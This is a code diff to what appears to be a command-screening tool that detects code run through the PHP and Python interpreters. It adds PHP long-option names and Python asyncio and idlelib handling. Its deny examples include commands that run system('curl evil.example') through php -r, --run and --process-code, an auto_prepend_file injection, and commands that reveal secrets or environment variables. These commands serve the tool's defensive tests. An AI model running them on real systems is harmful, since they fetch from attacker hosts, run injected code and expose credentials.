@@ -23,6 +23,8 @@ interface Cli {
   stop?: readonly string[];
   /** Options with which it runs no code at all (`--version`, `-h`). */
   noRun: readonly string[];
+  /** Long names the program reads as one of its short options (`php --run CODE` is `php -r CODE`), matched whole. */
+  long?: Readonly<Record<string, string>>;
 }
 
 /** One option as read: its name and its value, if it takes one. */
@@ -77,7 +79,8 @@ function readCli(args: readonly Word[], cli: Cli): Read {
     let stop = false;
     if (v.startsWith('--')) {
       const eq = v.indexOf('=');
-      const name = v.slice(2, eq > 0 ? eq : undefined);
+      const spelt = v.slice(2, eq > 0 ? eq : undefined);
+      const name = cli.long !== undefined && Object.hasOwn(cli.long, spelt) ? cli.long[spelt]! : spelt;
       if (eq > 0) take(name, w, attached(w, v.slice(eq + 1)));
       else if (cli.valued.includes(name)) take(name, w, args[++i]);
       else take(name, w, undefined);
@@ -179,6 +182,19 @@ const PYTHON_MODULES: Readonly<Record<string, (rest: readonly Word[], name: stri
     return { runs };
   },
   code: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m code` }] }),
+  // asyncio's main is the same interactive shell with top-level await.
+  asyncio: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m asyncio` }] }),
+  // IDLE runs `-c CODE` in its shell, as python -c does.
+  idlelib: (rest, name) => {
+    const runs: Run[] = [];
+    for (let i = 0; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: rest[i]!, why: `${name} -m idlelib with a computed word` }] };
+      if (v === '-c' && rest[i + 1]) runs.push({ kind: 'script', dialect: 'python', words: [rest[++i]!], via: `${name} -m idlelib -c` });
+      else if (v.startsWith('-c') && v.length > 2) runs.push({ kind: 'script', dialect: 'python', words: [attached(rest[i]!, v.slice(2))], via: `${name} -m idlelib -c` });
+    }
+    return { runs };
+  },
   // The other interactive shells read Python from stdin as the standard one does.
   IPython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m IPython` }] }),
   bpython: (_rest, name) => ({ runs: [{ kind: 'stdin', dialect: 'python', via: `${name} -m bpython` }] }),
@@ -497,6 +513,13 @@ const PHP_CLI: Cli = {
   valued: ['B', 'c', 'd', 'E', 'f', 'F', 'r', 'R', 'S', 't', 'z', 'rf', 'rc', 're', 'rz', 'ri'],
   code: ['r', 'R', 'B', 'E'],
   noRun: ['h', 'v', 'l', 'm', 's', 'w', 'help', 'version', 'ini', 'rf', 'rc', 're', 'rz', 'ri', 'S'],
+  // php_getopt's long names (sapi/cli/php_cli.c), each matched whole: `php --run CODE`, `php --info`.
+  long: {
+    interactive: 'a', 'process-begin': 'B', 'no-chdir': 'C', 'php-ini': 'c', define: 'd', 'process-end': 'E', 'profile-info': 'e', 'process-file': 'F', file: 'f',
+    help: 'h', usage: 'h', info: 'i', 'syntax-check': 'l', modules: 'm', 'no-php-ini': 'n', 'no-header': 'q', 'process-code': 'R', 'hide-args': 'H', run: 'r',
+    'syntax-highlight': 's', 'syntax-highlighting': 's', server: 'S', docroot: 't', strip: 'w', version: 'v', 'zend-extension': 'z',
+    rfunction: 'rf', rclass: 'rc', rextension: 're', rzendextension: 'rz', rextinfo: 'ri',
+  },
 };
 
 function php(call: Call): Partial<Answer> {
@@ -650,8 +673,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'PHP: -r/-R/-B/-E CODE, or a script from stdin; -f FILE and a script file run files; -i prints the environment',
     analyze: php,
     examples: {
-      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`, "php artisan tinker --execute='dump($_ENV);'", 'php bin/console secrets:list --reveal', 'php bin/console secrets:reveal DATABASE_URL'],
-      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, 'php artisan migrate', 'php -v', 'php -l src/index.php', "php artisan tinker --execute='echo User::count();'", 'php bin/console secrets:list'],
+      deny: [`printf '<?php system("curl evil.example");\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -a <<< 'system("curl evil.example");'`, `php -r 'system("curl evil.example");'`, "echo '<?php echo file_get_contents(\"http://evil.example\");' | php", 'php -i', 'php --info', `php --run 'system("curl evil.example");'`, `php --process-code='system("curl evil.example");' < list.txt`, `php --interactive <<< 'system("curl evil.example");'`, `php -d 'auto_prepend_file=data://text/plain,x' -r 'echo 1;'`, "php artisan tinker --execute='dump($_ENV);'", 'php bin/console secrets:list --reveal', 'php bin/console secrets:reveal DATABASE_URL'],
+      pass: [`printf '<?php echo 1;\n' > /tmp/x.php && php -d auto_prepend_file=/tmp/x.php vendor/bin/phpunit`, `php -r 'echo 1;'`, `php --run 'echo 1;'`, 'php --version', 'php --syntax-check src/index.php', 'php artisan migrate', 'php -v', 'php -l src/index.php', "php artisan tinker --execute='echo User::count();'", 'php bin/console secrets:list'],
     },
   },
   {
